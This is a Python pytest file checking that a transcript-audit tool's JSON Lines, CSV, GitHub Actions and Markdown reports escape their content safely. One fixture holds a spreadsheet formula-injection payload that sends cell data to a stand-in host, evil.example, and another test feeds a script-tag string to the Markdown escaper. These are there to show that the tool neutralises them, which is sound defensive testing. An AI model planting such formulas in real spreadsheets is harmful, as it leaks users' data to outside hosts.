"""The pipeline, spreadsheet, CI and merge-request formats render the JSON contract faithfully and safely."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from transcript_audit.engine import AuditOptions
from transcript_audit.pipeline import audit
from transcript_audit.model import AuditResult, Finding, ReadError, Role, Severity, Transcript, TranscriptResult, Turn
from transcript_audit.reporters import csv_report, github_report, jsonl_report, markdown_report

from .conftest import SAMPLES

# ::command key=value,key=value::message — values and message already escaped.
GITHUB_COMMAND = re.compile(r"^::(error|warning|notice)( [a-z]+=[^,:\r\n]*(,[a-z]+=[^,:\r\n]*)*)?::[^\r\n]*$")


def rendered(module, result: AuditResult, **options) -> str:
    stream = io.StringIO()
    module.render(result, stream, **options)
    return stream.getvalue()


def csv_rows(text: str, delimiter: str = ",") -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


@pytest.fixture(scope="module")
def samples_result(auditor) -> AuditResult:
    return audit([SAMPLES], AuditOptions(), auditor=auditor)


@pytest.fixture(scope="module")
def findings_count(samples_result) -> int:
    count = samples_result.as_records()["summary"]["findings"]
    assert count > 0
    return count


def handmade_result(text: str, path: str = "calls/a,b:c.txt", rule: str = "pack:odd,rule") -> AuditResult:
    """One transcript with one finding whose text is ``text``, matched on "marchandise"."""
    turn = Turn(role=Role.AGENT, speaker="Conseiller", text=text, line=1)
    start = text.find("marchandise")
    finding = Finding(
        rule=rule, category="jargon", severity=Severity.WARNING, message=f"« {text} » : 100 % jargon",
        rationale="", suggestion="=1+1", turn=1, speaker="@Conseiller", role=Role.AGENT,
        line=1, column=start + 1, excerpt=text, match="marchandise", match_start=start,
    )
    transcript = Transcript(id="a", path=path, channel="chat", turns=[turn])
    return AuditResult(
        tool_version="0",
        transcripts=[TranscriptResult(transcript=transcript, findings=[finding], score=80)],
        errors=[ReadError(path="calls/broken,1.txt", line=None, message="unreadable:\nbinary")],
        rules=[],
    )


# JSON Lines

def test_jsonl_has_one_parsable_line_per_finding_and_error(samples_result, findings_count):
    text = rendered(jsonl_report, samples_result)
    lines = text.split("\n")
    assert lines[-1] == ""
    records = [json.loads(line) for line in lines[:-1]]
    assert len(records) == findings_count + len(samples_result.errors)
    report = samples_result.as_records()
    first_transcript = next(t for t in report["transcripts"] if t["findings"])
    first = records[0]
    assert first == {
        **first_transcript["findings"][0], "path": first_transcript["path"], "transcript": first_transcript["id"],
        "channel": first_transcript["channel"], "score": first_transcript["score"],
    }
    assert "é" in text  # ensure_ascii=False: French stays readable


def test_jsonl_error_lines_and_unicode_line_separators():
    result = handmade_result("Votre marchandise\u2028arrive")
    lines = rendered(jsonl_report, result).splitlines()  # splitlines also splits on U+2028
    assert len(lines) == 2
    assert json.loads(lines[0])["excerpt"] == "Votre marchandise\u2028arrive"
    assert json.loads(lines[1]) == {"error": "unreadable:\nbinary", "path": "calls/broken,1.txt", "line": None}


# CSV

@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_has_the_documented_header_and_one_row_per_finding(samples_result, findings_count, delimiter):
    module_render = csv_report.with_delimiter(delimiter)
    stream = io.StringIO()
    module_render(samples_result, stream)
    text = stream.getvalue()
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    rows = csv_rows(text, delimiter)
    assert tuple(rows[0]) == csv_report.COLUMNS
    assert len(rows) == 1 + findings_count
    assert all(len(row) == len(csv_report.COLUMNS) for row in rows)
    by_name = dict(zip(rows[0], rows[1]))
    assert by_name["path"].startswith("samples/")
    assert by_name["severity"] in ("info", "warning", "error")


def test_csv_semicolon_variant_is_the_delimiter_parameter(samples_result):
    semicolon = io.StringIO()
    csv_report.with_delimiter(";")(samples_result, semicolon)
    assert semicolon.getvalue() == rendered(csv_report, samples_result, delimiter=";")
    assert semicolon.getvalue() != rendered(csv_report, samples_result)
    with pytest.raises(ValueError):
        csv_report.with_delimiter(";;")


@pytest.fixture(scope="module")
def hyperlink_result(auditor, tmp_path_factory) -> AuditResult:
    path = tmp_path_factory.mktemp("injection") / "injection.txt"
    path.write_text('Conseiller : =HYPERLINK("http://evil.example/?x="&A1;"clic") votre marchandise\n', encoding="utf-8")
    return audit([path], AuditOptions(), auditor=auditor)


def test_csv_neutralises_formulas_from_transcript_text(hyperlink_result):
    findings = [f for f in hyperlink_result.findings() if f.excerpt.startswith("=")]
    assert findings, "expected a finding whose excerpt starts with '='"
    rows = csv_rows(rendered(csv_report, hyperlink_result, delimiter=";"), ";")
    excerpts = [dict(zip(rows[0], row))["excerpt"] for row in rows[1:]]
    assert any(excerpt.startswith("'=HYPERLINK") for excerpt in excerpts)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_csv_neutralises_every_trigger_but_keeps_numbers():
    rows = csv_rows(rendered(csv_report, handmade_result("-marchandise @ +33")))
    record = dict(zip(rows[0], rows[1]))
    assert record["excerpt"] == "'-marchandise @ +33"
    assert record["suggestion"] == "'=1+1"
    assert record["speaker"] == "'@Conseiller"
    assert record["score"] == "80" and record["line"] == "1"
    assert record["locator"] == ""  # None is an empty cell


# GitHub Actions

def test_github_commands_follow_the_grammar(samples_result, findings_count):
    lines = rendered(github_report, samples_result).split("\n")[:-1]
    assert len(lines) == findings_count + len(samples_result.errors)
    for line in lines:
        assert GITHUB_COMMAND.match(line), line
    assert any(line.startswith("::error file=samples/") for line in lines)
    assert any(",line=" in line and ",col=" in line and ",title=" in line for line in lines)


def test_github_escapes_properties_and_message():
    lines = rendered(github_report, handmade_result("Votre marchandise\r\nest là")).split("\n")[:-1]
    assert lines[0] == (
        "::warning file=calls/a%2Cb%3Ac.txt,line=1,col=7,title=pack%3Aodd%2Crule"
        "::« Votre marchandise%0D%0Aest là » : 100 %25 jargon"
    )
    assert lines[1] == "::error file=calls/broken%2C1.txt,title=transcript-audit::unreadable:%0Abinary"
    for line in lines:
        assert GITHUB_COMMAND.match(line), line


def test_github_leaves_out_unknown_positions_and_maps_info_to_notice():
    result = handmade_result("marchandise")
    finding = result.transcripts[0].findings[0]
    finding.line, finding.column, finding.severity = None, None, Severity.INFO
    line = rendered(github_report, result).split("\n")[0]
    assert line.startswith("::notice file=calls/a%2Cb%3Ac.txt,title=")


# Markdown

def test_markdown_has_totals_category_table_scores_and_details(samples_result):
    text = rendered(markdown_report, samples_result)
    summary = samples_result.summary()
    assert text.startswith(f"### transcript-audit : {summary['findings']} constats\n")
    assert "| catégorie | erreur | alerte | info | total |" in text
    for category, counts in summary["by_category"].items():
        cells = " | ".join(str(counts[s]) for s in ("error", "warning", "info"))
        assert f"| {category.replace('_', chr(92) + '_')} | {cells} | {sum(counts.values())} |" in text
    assert f"| **{summary['findings']}** |" in text
    assert "#### Scores" in text
    flagged = sum(1 for t in samples_result.transcripts if t.findings)
    assert text.count("<details>") == text.count("</details>") == flagged
    assert "<b>arrivera normalement sous peu</b>" in text


def test_markdown_escapes_transcript_text():
    text = rendered(markdown_report, handmade_result("Tapez 1|2 <script>*vite*_ `x` [lien](y) @marie #12 votre marchandise"))
    row = next(line for line in text.splitlines() if line.startswith("| 1:") and "pack" in line)
    assert "1\\|2" in row
    assert "&lt;script&gt;" in row and "<script>" not in text
    assert "\\*vite\\*\\_" in row and "\\`x\\`" in row and "\\[lien\\](y)" in row
    assert "@&#8203;marie" in row and "#&#8203;12" in row
    assert "<b>marchandise</b>" in row
    # the row still has exactly its 5 cells: every "|" from the text is escaped
    assert len(re.findall(r"(?<!\\)\|", row)) == 6
    assert "<summary><code>calls/a,b:c.txt › a</code>" in text  # raw HTML: no Markdown backslashes
    assert "#### Erreurs de lecture" in text
